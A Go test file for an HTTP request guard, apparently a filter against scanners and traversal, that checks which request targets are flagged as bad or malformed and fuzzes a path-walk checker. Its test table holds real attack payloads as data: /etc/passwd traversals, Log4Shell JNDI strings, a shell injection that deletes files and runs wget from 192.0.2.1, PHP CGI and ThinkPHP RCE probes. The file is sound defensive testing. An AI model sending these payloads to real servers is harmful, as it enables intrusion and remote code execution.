package guard

import (
	"bufio"
	"os"
	"strings"
	"testing"
)

func TestShape(t *testing.T) {
	g := New(Config{})
	for _, tt := range []struct {
		method, target, host string
		want                 string // "" for nothing wrong
	}{
		// What callers send.
		{"GET", "/", "mypi.example.org", ""},
		{"POST", "/api/v1/things?limit=5&order=desc", "mypi.example.org", ""},
		{"OPTIONS", "*", "mypi.example.org", ""},
		{"OPTIONS", "/x", "mypi.example.org", ""},
		{"PROPFIND", "/dav/", "mypi.example.org", ""},
		{"get", "/", "mypi.example.org", ""}, // another's to judge
		{"GET", "http://mypi.example.org/x", "mypi.example.org", ""},
		{"GET", "HTTPS://MyPi.Example.ORG.:443/x?y", "mypi.example.org", ""},
		{"GET", "http://mypi.example.org", "mypi.example.org:8080", ""},
		{"GET", "http://[2001:db8::1]:80/", "[2001:db8::1]", ""},
		{"GET", "/a/b/../c", "h", ""},
		{"GET", "/a/..", "h", ""},
		{"GET", "/a/./b/.", "h", ""},
		{"GET", "/a//../b", "h", ""},
		{"GET", "/...", "h", ""},
		{"GET", "/..a/b..", "h", ""},
		{"GET", "/a?next=../../b", "h", ""},
		{"GET", "/a?next=%2e%2e/b", "h", ""},
		{"GET", "/a%20b%2Fc%25", "h", ""},
		{"GET", "/price?x=${amount}", "h", ""},
		{"GET", "/shell", "h", ""}, // a route may be called so
		{"GET", "/docs/etc/password", "h", ""},
		{"GET", "/v2/a.tar;v=1", "h", ""},
		{"GET", "/.;/x", "h", ""},

		// What they do not.
		{"CONNECT", "example.com:443", "example.com:443", "bad_shape"},
		{"PRI", "*", "", "bad_shape"},
		{"TRACE", "/", "h", "bad_shape"},
		{"TRACK", "/", "h", "bad_shape"},
		{"DEBUG", "/", "h", "bad_shape"},
		{"GET", "http://example.com/", "mypi.example.org", "bad_shape"},
		{"GET", "http://example.com/", "", "bad_shape"},
		{"GET", "http:///x", "", "bad_shape"},
		{"GET", "http://mypi.example.org@example.com/", "mypi.example.org", "bad_shape"},
		{"GET", "ftp://example.com/", "h", "bad_shape"},
		{"GET", "/..", "h", "bad_shape"},
		{"GET", "/../x", "h", "bad_shape"},
		{"GET", "/a/../../x", "h", "bad_shape"},
		{"GET", "//../x", "h", "bad_shape"},
		{"GET", "/a/../..?x", "h", "bad_shape"},
		{"GET", "/./../x", "h", "bad_shape"},
		{"GET", "http://h/../x", "h", "bad_shape"},
		{"GET", "/%2e%2e/x", "h", "bad_shape"},
		{"GET", "/a/%2e%2e/x", "h", "bad_shape"}, // hides something
		{"GET", "/a/.%2E/x", "h", "bad_shape"},
		{"GET", "/a/b/%252e%252e/x", "h", "bad_shape"},
		{"GET", "/..%2f..%2fx", "h", "bad_shape"},
		{"GET", "/..%5c..%5cx", "h", "bad_shape"},
		{"GET", `/..\..\x`, "h", "bad_shape"},
		{"GET", "/app/..;/manager/html", "h", "bad_shape"},
		{"GET", "/a/b/..;x=y/c", "h", "bad_shape"},
		{"GET", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "192.0.2.1", "bad_shape"},
		{"GET", "/x%00.png", "h", "bad_shape"},
		{"GET", "/x\x00.png", "h", "bad_shape"},
		{"GET", "/x%2500", "h", "bad_shape"},
		{"GET", "/?f=/etc/passwd", "h", "bad_shape"},
		{"GET", "/?f=..%2F..%2FETC%2Fpasswd", "h", "bad_shape"},
		{"GET", "/?f=%252fetc%252fpasswd", "h", "bad_shape"},
		{"GET", "/a/../etc/passwd", "h", "bad_shape"},
		{"GET", "/a/..//etc///passwd", "h", "bad_shape"},
		{"GET", "/?x=${jndi:ldap://192.0.2.1/a}", "h", "bad_shape"},
		{"GET", "/?x=$%7BJNDI:ldap://192.0.2.1/a%7D", "h", "bad_shape"},
		{"GET", "/?x=${${::-j}ndi:rmi://192.0.2.1/a}", "h", "bad_shape"},
		{"GET", "/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.1/x", "192.0.2.1", "bad_shape"},
		{"GET", "/shell?cd%20/tmp", "192.0.2.1", "bad_shape"},
		{"POST", "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "h", "bad_shape"},
		{"GET", `/index.php?s=/index/\think\app/invokefunction&function=call_user_func_array`, "h", "bad_shape"},
		{"GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "h", "bad_shape"},

		// What fits no form.
		{"GET", "", "h", "malformed"},
		{"GET", "*", "h", "malformed"},
		{"GET", "x", "h", "malformed"},
		{"GET", "?x", "h", "malformed"},
		{"GET", "1http://h/", "h", "malformed"},
		{"GET", "://h/", "h", "malformed"},
		{"connect", "example.com:443", "h", "malformed"},
	} {
		got := ""
		if s, bad := g.Shape(tt.method, tt.target, tt.host); bad {
			got = s.String()
		}
		if got != tt.want {
			t.Errorf("%s %q for %q: %q, want %q", tt.method, tt.target, tt.host, got, tt.want)
		}
	}
}

// lines reads a corpus: one entry a line, # begins a comment.
func lines(t *testing.T, name string) []string {
	t.Helper()
	f, err := os.Open("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var all []string
	for s := bufio.NewScanner(f); s.Scan(); {
		if line := strings.TrimSpace(s.Text()); line != "" && !strings.HasPrefix(line, "#") {
			all = append(all, line)
		}
	}
	return all
}

// Each scanner request of the corpus is recognised by itself, by its shape or
// its path, and named by family.
func TestScannerCorpus(t *testing.T) {
	for _, line := range lines(t, "scanner.txt") {
		want, target, _ := strings.Cut(line, " ")
		if _, bad := shape("GET", target, "mypi.example.org"); bad {
			if want != "shape" {
				t.Errorf("%s: bad shape, want %s", target, want)
			}
			continue
		}
		path, _, _ := strings.Cut(target, "?")
		got, ok := ScannerSignature(path)
		if !ok || string(got) != want {
			t.Errorf("%s: %q, %v, want %q", target, got, ok, want)
		}
	}
}

// No benign request of the corpus has a bad shape, and those that may be made
// without a route behind them are on no list of scanner paths.
func TestBenignCorpus(t *testing.T) {
	for _, line := range lines(t, "benign.txt") {
		kind, target, _ := strings.Cut(line, " ")
		if s, bad := shape("GET", target, "mypi.example.org"); bad {
			t.Errorf("%s: %s", target, s)
		}
		path, _, _ := strings.Cut(target, "?")
		if family, ok := ScannerSignature(path); ok && kind != "route" {
			t.Errorf("%s: taken for a scan for %s", target, family)
		}
		if got := Unasked(path); got != (kind == "unasked") {
			t.Errorf("%s: unasked = %v, want %v", target, got, !got)
		}
	}
}

// slowGoesUp walks a path the plain way.
func slowGoesUp(target string) bool {
	if i := strings.IndexAny(target, "?#"); i >= 0 {
		target = target[:i]
	}
	const encodedDot = '\uE000' // stands for a dot that was encoded
	var plain []rune
	for i := 0; i < len(target); {
		c := target[i]
		i++
		if c != '%' {
			plain = append(plain, rune(c))
			continue
		}
		d, next := unescape(target, i)
		if d == '.' && next > i {
			plain = append(plain, encodedDot)
		} else {
			plain = append(plain, rune(d))
		}
		i = next
	}
	path := strings.ReplaceAll(string(plain), `\`, "/")
	depth := 0
	for _, seg := range strings.Split(path, "/") {
		bare := strings.ReplaceAll(seg, string(encodedDot), ".")
		name, params := bare, false
		if i := strings.IndexByte(bare, ';'); i >= 0 && strings.Trim(bare[:i], ".") == "" && i > 0 {
			name, params = bare[:i], true
		}
		switch name {
		case "", ".":
		case "..":
			depth--
			if params || depth < 0 || bare != seg {
				return true
			}
		default:
			depth++
		}
	}
	return false
}

func FuzzShape(f *testing.F) {
	for _, s := range []string{
		"/", "/../x", "/a/%2e%2e/x", "/a/..;/b", "/.%2e", "/a/b/../../..", "/..%5c", "http://h/../", "*", "/%00", "/etc/passwd",
		"/.;/..", "/%252e%252e", "/..;%2e/", "/a?/../", "/a#/..", "//..", "/x/%2F..", "/...;/..",
	} {
		f.Add("GET", s, "h")
	}
	f.Fuzz(func(t *testing.T, method, target, host string) {
		s, bad := shape(method, target, host)
		if bad && s != BadShape && s != Malformed {
			t.Fatalf("signal %s", s)
		}
		if !strings.HasPrefix(target, "/") || s == Malformed {
			return
		}
		if got, want := goesUp(target), slowGoesUp(target); got != want {
			t.Fatalf("%q goes up: %v, want %v", target, got, want)
		}
		path := target
		if i := strings.IndexAny(path, "?#"); i >= 0 {
			path = path[:i]
		}
		// The automaton asks for the walk whenever the walk would find something.
		if slowGoesUp(target) && !bad {
			t.Fatalf("%q goes up, but was let through", target)
		}
		// Nothing follows from the query but by its own text.
		if _, bad := shape("GET", path, "h"); bad {
			if _, still := shape("GET", path+"?x", "h"); !still {
				t.Fatalf("%q is bad, but not with a query", path)
			}
		}
	})
}
